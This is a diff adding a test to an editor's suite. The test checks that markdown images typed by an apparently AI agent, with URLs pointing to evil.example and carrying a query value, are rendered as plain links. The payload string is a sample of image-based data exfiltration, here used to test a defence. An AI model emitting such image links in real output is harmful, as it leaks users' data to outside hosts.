@@ -422,6 +422,20 @@ async def test_typing_stops_in_a_block_that_is_deleted_or_goes_on_elsewhere(
     assert markdown.split() == ["one", "two", "Hello"], "what was typed goes with the block, once"
 
 
+async def test_a_picture_that_is_typed_is_a_link(
+    services: Services, ann: Api, workspace: str, page: Json, block: str
+):
+    """Whoever saw it would ask its address, which a model has made up."""
+    run = await begin_run(services, ann, workspace)
+    said = "See ![it](https://evil.example/?it=90000) now\n\n- ![](https://evil.example/2)"
+    async with join(services, run, page) as agent:
+        assert (await agent.type_into(block, pieces(said))).outcome == "written"
+    markdown = (await ann.get(f"/v1/pages/{page['id']}/markdown")).json()["markdown"]
+    assert "See [it](https://evil.example/?it=90000) now" in markdown
+    assert "![" not in markdown
+    assert "<img" not in markdown
+
+
 class Overtaken:
     """Suggestions of a page that begins anew while one is made, so often."""
 
